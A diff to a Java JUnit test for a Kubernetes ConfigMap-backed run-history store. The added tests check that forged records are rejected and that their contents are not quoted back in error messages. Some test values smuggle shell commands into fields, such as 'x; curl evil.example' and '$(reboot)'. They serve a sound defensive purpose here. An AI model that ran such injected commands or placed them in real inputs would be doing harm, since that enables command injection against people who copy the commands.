@@ -8,6 +8,7 @@ import io.fabric8.kubernetes.api.model.ConfigMapBuilder;
 import io.fabric8.kubernetes.api.model.NamespaceBuilder;
 import io.fabric8.kubernetes.client.KubernetesClient;
 import io.fabric8.kubernetes.client.KubernetesClientException;
+import io.fabric8.kubernetes.client.dsl.NonDeletingOperation;
 import java.util.Collections;
 import java.util.List;
 import java.util.Locale;
@@ -18,6 +19,9 @@ import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInfo;
 import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** The record on an API server: who comes late writes nothing. */
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
@@ -52,7 +56,7 @@ class RunHistoryStoreTest {
                         .withName(namespace)
                         .endMetadata()
                         .build())
-                .create();
+                .createOr(NonDeletingOperation::update);
     }
 
     @Test
@@ -113,6 +117,81 @@ class RunHistoryStoreTest {
         assertThatThrownBy(() -> store.read(client, namespace))
                 .isInstanceOf(CorruptHistoryException.class)
                 .hasMessageContaining("kubectl -n " + namespace + " delete configmap sourcegraph-downgrade-history");
+    }
+
+    private static final String GOOD = """
+            {"name": "back", "uid": "u-1", "specDigest": "sha256:ab", "from": "4.5.1", "to": "v4.0.1",
+             "startedAt": "2026-01-01T10:00:00Z"}""";
+
+    private static final String GOOD_ENDED =
+            GOOD.replace("Z\"}", "Z\", \"finishedAt\": \"2026-01-01T11:00:00Z\", \"outcome\": \"Complete\"}");
+
+    /** Who may write ConfigMaps could otherwise put a text of his own into commands that people copy. */
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            quoteCharacter = '`',
+            value = {
+                "back | x; curl evil.example | the name",
+                "back | Back | the name",
+                "back | a..b | the name",
+                "u-1 | $(reboot) | the uid",
+                "sha256:ab | 'a b' | the specDigest",
+                "4.5.1 | 4.5.1\\n# | the from",
+                "v4.0.1 | `v4 0 1` | the to",
+                "2026-01-01T10:00:00Z | yesterday | the startedAt",
+                "\"name\": \"back\" | \"name\": null | the name",
+                "\"uid\": \"u-1\", | | the uid"
+            })
+    void aForgedRecordIsRefusedWithoutQuotingIt(String field, String forged, String told) {
+        String value = forged == null ? "" : forged;
+        for (String record : List.of(GOOD, GOOD_ENDED)) {
+            assertThat(record).contains(field);
+            assertThatThrownBy(() -> readForged(record, record.equals(GOOD), field, value))
+                    .isInstanceOf(CorruptHistoryException.class)
+                    .hasMessageContaining(told)
+                    .hasMessageContaining("delete configmap sourcegraph-downgrade-history")
+                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("evil", "reboot", "yesterday"));
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"null", "[null]", "[", "{}"})
+    void aListOfRunsThatIsNoneIsRefused(String runs) {
+        write("", runs);
+        assertThatThrownBy(() -> store.read(client, namespace)).isInstanceOf(CorruptHistoryException.class);
+    }
+
+    @Test
+    void aHolderThatHasEndedAndAnEndedRunThatHasNotAreRefused() {
+        write(GOOD_ENDED, "[]");
+        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the holder has ended");
+        write("", "[" + GOOD + "]");
+        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the finishedAt");
+        write("", "[" + GOOD_ENDED.replace("Complete", "Victory") + "]");
+        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the outcome");
+        write("null", "[]");
+        assertThatThrownBy(() -> store.read(client, namespace)).hasMessageContaining("the holder is null");
+        write(GOOD, "[" + GOOD_ENDED + "]");
+        assertThat(store.read(client, namespace).runs()).hasSize(1);
+    }
+
+    private void readForged(String record, boolean holder, String field, String forged) {
+        String text = record.replace(field, forged);
+        write(holder ? text : "", holder ? "[]" : "[" + text + "]");
+        store.read(client, namespace);
+    }
+
+    private void write(String holder, String runs) {
+        client.resource(new ConfigMapBuilder()
+                        .withNewMetadata()
+                        .withNamespace(namespace)
+                        .withName(RunHistoryStore.NAME)
+                        .endMetadata()
+                        .addToData("holder.json", holder)
+                        .addToData("runs.json", runs)
+                        .build())
+                .createOr(NonDeletingOperation::update);
     }
 
     @Test
